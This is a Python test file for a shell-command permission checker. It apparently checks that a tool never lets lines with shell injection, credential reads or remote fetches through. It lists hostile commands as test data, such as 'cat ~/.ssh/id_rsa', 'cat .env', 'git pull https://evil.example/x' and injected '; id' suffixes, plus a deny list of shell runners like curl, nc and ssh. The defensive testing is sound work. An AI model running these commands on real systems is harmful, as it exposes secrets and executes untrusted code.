from __future__ import annotations

import random
import shlex
import string
import subprocess
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from jupyter_crush.tools.shell_programs import PLAIN, RUNNERS, SUBCOMMANDS, TARGETS
from jupyter_crush.tools.shell_words import coverage, plain_words
from tools_room import ENV

GOOD = [
    "ls -la",
    "git status",
    "git diff HEAD~1",
    "cat a.txt",
    "wc -l data/x.csv",
    "pip list",
    "npm run build",
    "make test",
]
META = [
    "\n",
    "\r",
    ";",
    "&",
    "&&",
    "||",
    "|",
    "|&",
    ">",
    ">>",
    "<",
    "<<<",
    "`",
    "$",
    "$(",
    "${",
    "$((",
    "(",
    ")",
    "{",
    "}",
]
META += [
    "!",
    "*",
    "?",
    "[",
    "]",
    "#",
    "~",
    "^",
    "\\",
    "\t",
    "\0",
    "\x0b",
    "\x0c",
    "\xa0",
    "\u2003",
    "\u3000",
    "\u2028",
    "'",
    '"',
]
RUNNING = (
    "bash sh zsh dash fish python python3 python3.11 ipython node deno bun perl ruby php lua R Rscript julia java awk gawk sed env "
    "xargs find sudo su doas nohup timeout time nice ionice setsid exec eval source . command builtin trap watch ssh scp rsync curl "
    "wget nc tar zip unzip ln rm mv cp dd tee chmod chown kill docker-compose kubectl npx pnpx uvx pipx parallel strace gdb vim vi "
    "nano less more man crontab at systemctl mount export alias set unset cd pushd printenv sqlite3 psql mysql jupyter-lab ftp"
)


def hostile_lines() -> list[str]:
    """Lines that no grant may cover."""
    lines = [
        f"{good}{where}{meta}{after}" for good in GOOD for meta in META for where, after in (("", " id"), (" ", "id"))
    ]
    lines += [f"{program} {rest}" for program in RUNNING.split() for rest in ("x", "-c id", "a b", "--version")]
    lines += [
        f"{prefix} {good}"
        for good in GOOD
        for prefix in ("A=1", "PATH=.", "env A=1", "nohup", "sudo", "./", "/bin/", "time")
    ]
    lines += [
        f"git {option} status"
        for option in ("-c core.fsmonitor=id", "-C /", "--exec-path=.", "-p", "--git-dir=x", "-ca=b")
    ]
    lines += [
        "git diff --ext-diff",
        "git diff --ext",
        "git diff --textconv",
        "git log --output=x",
        "git log --outp=x",
        "git fetch --upload-pack=id",
        "git fetch --upload-pac id",
        "git fetch ext::id",
        "git pull https://evil.example/x",
        "git pull git@evil.example:x",
        "git push",
        "git config alias.x '!id'",
        "git submodule foreach id",
        "git bisect run id",
        "git rebase --exec id",
        "git clone x",
        "git -c alias.x=!id x",
        "git commit -c HEAD",
        "git branch -D main",
        "git tag -d x",
        "git unknown",
        "git",
        "GIT status",
        "Git status",
        "'git' status",
        '"git" status',
        "g'i't status",
        "./git status",
        "/usr/bin/git status",
        "git\u200b status",
        "gіt status",
        "cat /etc/passwd",
        "cat ../x",
        "cat a/../../x",
        "cat --file=/etc/passwd",
        "cat -n/etc/passwd",
        "cat ~/.ssh/id_rsa",
        "cat .env",
        "cat .git/config",
        "grep -f ~/.netrc x",
        "grep -c x y",
        "touch .vscode/tasks.json",
        "make SHELL=/tmp/x test",
        "make -f ../Makefile",
        "pytest -c evil.ini",
        "pytest --rootdir=/",
        "npm run",
        "npm run ../x",
        "npm run --script-shell=x build",
        "npm exec x",
        "npm install --prefix=x",
        "pip install --target=x y",
        "pip install git+https://x",
        "uv run x",
        "jq -f x y",
        "date -s now",
        "date --set=now",
        "go test -exec id",
        "ruff check --config=x",
        "ls " + "a " * 101,
        "ls " + "a" * 2000,
        "echo x" + " ; id" * 50,
        "",
        " ",
        "-c",
        "--",
        "-",
        "%",
        "1",
        "ls --color='",
        'ls "a',
        'echo "$HOME"',
        'echo "`id`"',
        'echo "a\\"; id; \\""',
        "echo $'a'",
        'echo $"a"',
    ]
    return lines


def test_there_are_many_hostile_lines() -> None:
    assert len(set(hostile_lines())) >= 500


def test_nothing_unsure_is_covered() -> None:
    assert [line for line in hostile_lines() if coverage(line, "") is not None] == []


@pytest.mark.parametrize(
    ("line", "covered"),
    [
        ("ls", "ls"),
        ("ls -la data", "ls"),
        ("  ls  -la  ", "ls"),
        ("git status", "git%status"),
        ("git status --short", "git%status"),
        ("git diff HEAD", "git%diff"),
        ("git commit -m 'Fix the thing'", "git%commit"),
        ('git commit -m "Fix: a, b (not c)!"', None),
        ('git commit -m "Fix a & b | d; <e> (f)"', "git%commit"),
        ("git commit -m 'costs $5'", "git%commit"),
        ("npm run build", "npm%run%build"),
        ("make test", "make%test"),
        ("pytest -q tests/a.py", "pytest%-q%tests/a.py"),
        ("grep 'a b' x.txt", "grep"),
    ],
)
def test_a_plain_line_is_covered_by_program_and_subcommand(line: str, covered: str | None) -> None:
    found = coverage(line, "")
    assert (found.key if found else None) == (f"shell::{covered.replace('%', ' ')}" if covered else None)


def test_a_grant_is_bound_to_program_subcommand_and_folder() -> None:
    keys = [
        coverage(line, cwd) for line, cwd in [("git status", ""), ("git diff", ""), ("git status", "sub"), ("ls", "")]
    ]
    assert len({key.key for key in keys if key}) == 4


def test_the_scope_says_what_is_covered() -> None:
    status, target = coverage("git status -s", "sub"), coverage("make test", "")
    assert status is not None
    assert target is not None
    assert status.scope == "“git status” with any arguments in sub"
    assert target.scope == "exactly “make test”"


def test_what_runs_the_code_it_is_given_is_on_no_list() -> None:
    listed = PLAIN | set(SUBCOMMANDS) | set(RUNNERS) | TARGETS
    assert not listed & set(RUNNING.split())


WORD = st.text(string.ascii_letters + string.digits + "_./:=,@%+-", min_size=1, max_size=10)
QUOTED = st.text([c for c in string.printable if c.isprintable() and c not in "'\"$`\\!"], max_size=10)


@settings(max_examples=2000)
@given(
    st.lists(WORD | QUOTED.map(lambda text: f"'{text}'") | QUOTED.map(lambda text: f'"{text}"'), min_size=1, max_size=6)
)
def test_words_are_those_of_posix(words: list[str]) -> None:
    line = " ".join(words)
    read = plain_words(line)
    assert read is None or read == shlex.split(line)


@settings(max_examples=5000)
@given(st.text(string.printable + "\u2003\u200b«é", max_size=30))
def test_any_line_is_read_as_posix_does_or_not_at_all(line: str) -> None:
    read = plain_words(line)
    if read is not None:
        assert read == shlex.split(line)
        assert not set(line) & set("\n\r\t$`\\") or "'" in line


@pytest.mark.parametrize("seed", range(3))
def test_bash_reads_the_same_words(seed: int, tmp_path: Path) -> None:
    dice = random.Random(seed)
    characters = string.ascii_letters + string.digits + "_./:=,@%+-" + " " * 10 + "''\"\"" + "#()&;<>|*?[]{}~^!$"
    lines = ["".join(dice.choices(characters, k=dice.randint(1, 12))) for _ in range(4000)]
    lines = [line for line in lines if plain_words(f"echo {line}") is not None][:300]
    assert len(lines) >= 100
    script = "\n".join(f"printf '%s\\0' {line}; printf '\\1'" for line in lines)
    (tmp_path / "script").write_text(script)
    printed = subprocess.run(["bash", "script"], cwd=tmp_path, env=ENV, capture_output=True, check=True).stdout.decode()
    for line, words in zip(lines, printed.split("\x01"), strict=False):
        expected = (plain_words(f"echo {line}") or [])[1:]
        assert words == "".join(f"{word}\0" for word in expected or [""])
